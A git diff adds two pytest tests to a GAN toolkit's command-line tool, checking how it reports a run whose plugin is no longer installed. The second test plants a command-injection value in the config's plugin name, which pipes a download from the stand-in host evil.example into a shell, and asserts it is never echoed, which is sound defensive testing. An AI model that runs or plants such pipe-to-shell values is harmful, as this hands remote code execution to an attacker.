@@ -6,6 +6,7 @@ registers entries that each break the contract in one way. The real console scri
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -100,3 +101,35 @@ def test_the_good_entries_of_the_same_plugin_keep_working(gan_zoo):
     out = gan_zoo(*train_args(gan_zoo))
     assert out.returncode == 0, out.stderr
     assert (gan_zoo.out / "checkpoints" / "latest").is_file()
+
+
+def test_a_run_whose_plugin_is_gone_names_it_everywhere_it_is_read(gan_zoo):
+    assert gan_zoo(*train_args(gan_zoo)).returncode == 0  # tiny-gan and tiny-linear: the plugin's
+    gone = {"GAN_ZOO_LOAD_PLUGINS": ""}  # the same machine after `pip uninstall`
+    expected = (
+        "model 'tiny-gan' comes from the plugin gan-zoo-testplugins 1.2.3 (per config.json), which "
+        "is not installed; install it with: pip install 'gan-zoo-testplugins==1.2.3'"
+    )
+    out = gan_zoo("train", "--resume", str(gan_zoo.out), "--steps", "3", extra_env=gone)
+    assert (out.returncode, out.stderr) == (2, f"Error: {expected}\n")
+    generator = expected.replace("model 'tiny-gan'", "generator 'tiny-linear'")
+    for command in (["generate", str(gan_zoo.out), "--out", str(gan_zoo.out / "g.png")],
+                    ["evaluate", str(gan_zoo.out), "--metric", "fid"]):  # fmt: skip
+        out = gan_zoo(*command, extra_env=gone)
+        assert out.returncode == 2 and out.stderr.count("\n") == 1, out.stderr
+    out = gan_zoo("generate", str(gan_zoo.out), "--out", str(gan_zoo.out / "g.png"), extra_env=gone)
+    assert out.stderr == f"Error: {generator}\n"
+    out = gan_zoo("info", str(gan_zoo.out), "--json", extra_env=gone)
+    assert out.returncode == 0 and json.loads(out.stdout)["missing"] == expected
+
+
+def test_a_command_shaped_plugin_name_in_a_run_is_never_echoed(gan_zoo):
+    assert gan_zoo(*train_args(gan_zoo)).returncode == 0
+    latest = (gan_zoo.out / "checkpoints" / "latest").read_text().strip()
+    for config in (gan_zoo.out / "config.json", gan_zoo.out / "checkpoints" / latest / "config.json"):
+        record = json.loads(config.read_text())
+        record["plugins"]["model"] = "x'; curl evil.example | sh; echo ' 1.0"
+        config.write_text(json.dumps(record))
+    out = gan_zoo("train", "--resume", str(gan_zoo.out), "--steps", "3", extra_env={"GAN_ZOO_LOAD_PLUGINS": ""})
+    assert out.returncode == 2 and "curl" not in out.stderr and "pip install" not in out.stderr
+    assert "does not name its plugin in a valid form" in out.stderr
